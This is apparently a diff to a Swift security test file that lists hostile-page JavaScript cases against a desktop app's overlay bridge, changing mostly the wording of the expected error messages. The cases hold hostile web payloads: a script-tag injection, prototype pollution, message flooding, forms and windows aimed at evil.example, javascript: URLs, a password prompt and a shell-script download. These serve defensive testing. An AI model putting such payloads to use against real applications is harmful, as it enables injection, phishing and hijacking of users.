@@ -30,20 +30,21 @@ struct HostilePage: Sendable {
         HostilePage(
             "an object that runs when it is read", refused, "a value is missing",
             "dispatchEvent(new CustomEvent(fromPage, { detail: { toString() { for (;;); }, get length() { for (;;); } } }))"),
-        HostilePage("no nonce", refused, "not of the page", #"say(JSON.stringify({ event: "bridgeMute", payload: { mute: true } }))"#),
+        HostilePage("no nonce", refused, "not loaded any more", #"say(JSON.stringify({ event: "bridgeMute", payload: { mute: true } }))"#),
         HostilePage(
-            "a guessed nonce", refused, "not of the page",
+            "a guessed nonce", refused, "not loaded any more",
             #"say(JSON.stringify({ event: "bridgeMute", payload: { mute: true }, nonce: "0".repeat(32) }))"#),
-        HostilePage("not-a-number", refused, "no JSON", #"say(`{"event":"bridgeSpeed","payload":{"speed":NaN}}`)"#),
-        HostilePage("a wrong type", refused, "'mute' has to be", #"overlay.send("bridgeMute", { mute: "yes" })"#),
-        HostilePage("a speed without end", refused, "'speed' has to be", #"overlay.send("bridgeSpeed", { speed: null })"#),
+        HostilePage("not-a-number", refused, "not valid JSON", #"say(`{"event":"bridgeSpeed","payload":{"speed":NaN}}`)"#),
+        HostilePage("a wrong type", refused, "'mute' must be", #"overlay.send("bridgeMute", { mute: "yes" })"#),
+        HostilePage("a speed without end", refused, "'speed' must be", #"overlay.send("bridgeSpeed", { speed: null })"#),
         HostilePage("the player's voice", refused, "not sent by pages", #"overlay.send("playerState", { state: "stopped" })"#),
         HostilePage(
             "the overlay's voice", refused, "not sent by pages",
             #"overlay.send("overlayError", { error: { level: "fatal", code: 1, message: "m" } })"#),
-        HostilePage("script for an event", refused, "is no event", #"overlay.send("</script><script>alert(1)</script>")"#),
+        HostilePage("script for an event", refused, "is not an event", #"overlay.send("</script><script>alert(1)</script>")"#),
         HostilePage(
-            "a prototype for an attribute", refused, "is no attribute", #"overlay.send("bridgeMute", { mute: true, constructor: 1 })"#),
+            "a prototype for an attribute", refused, "not one of its attributes",
+            #"overlay.send("bridgeMute", { mute: true, constructor: 1 })"#),
         HostilePage(
             "three hundred messages at once", tooFast, "too soon",
             #"for (let i = 0; i < 300; i++) overlay.send("bridgeMute", { mute: true })"#),
@@ -63,14 +64,15 @@ struct HostilePage: Sendable {
             "a form to elsewhere", tried, "form-action", append("form", #"action: "https://evil.example/", method: "post""#) + ".submit()"),
         HostilePage("another base", tried, "base-uri", append("base", #"href: "https://evil.example/""#)),
         HostilePage("a script address", tried, "script-src", append("a", #"href: "javascript:alert(1)""#) + ".click()"),
-        HostilePage("a window", tried, "no windows", #"open("https://evil.example/")"#),
-        HostilePage("a program of the desktop", tried, "'mailto' addresses", #"location = "mailto:a@evil.example""#),
-        HostilePage("a dialog", tried, "no dialogs", "setTimeout(() => alert(1))"),
-        HostilePage("a question", tried, "no dialogs", #"setTimeout(() => prompt("password"))"#),
-        HostilePage("where the viewer is", tried, "no permissions", "navigator.geolocation.getCurrentPosition(() => {}, () => {})"),
-        HostilePage("paper", tried, "prints nothing", "setTimeout(() => print())"),
+        HostilePage("a window", tried, "new windows", #"open("https://evil.example/")"#),
+        HostilePage("a program of the desktop", tried, "'mailto' URLs", #"location = "mailto:a@evil.example""#),
+        HostilePage("a dialog", tried, "dialogs are", "setTimeout(() => alert(1))"),
+        HostilePage("a question", tried, "dialogs are", #"setTimeout(() => prompt("password"))"#),
         HostilePage(
-            "a download", tried, "addresses",
+            "where the viewer is", tried, "permissions of the desktop", "navigator.geolocation.getCurrentPosition(() => {}, () => {})"),
+        HostilePage("paper", tried, "printing is", "setTimeout(() => print())"),
+        HostilePage(
+            "a download", tried, "URLs are not supported",
             #"Object.assign(document.createElement("a"), { href: URL.createObjectURL(new Blob(["x"])), download: "x.sh" }).click()"#),
     ]
 
@@ -86,7 +88,7 @@ struct HostilePage: Sendable {
             Math.min = () => Infinity; performance.now = () => Infinity; String.prototype.slice = () => "x"; EventTarget.prototype.dispatchEvent = dispatchEvent;
             for (let i = 0; i < 100000; i++) overlay.send("bridgeMute", { mute: false })
             """),
-        HostilePage("never ends", 307_006, "does not answer", "for (;;);"),
+        HostilePage("never ends", 307_006, "does not respond", "for (;;);"),
     ]
 
     private static func append(_ tag: String, _ properties: String) -> String {
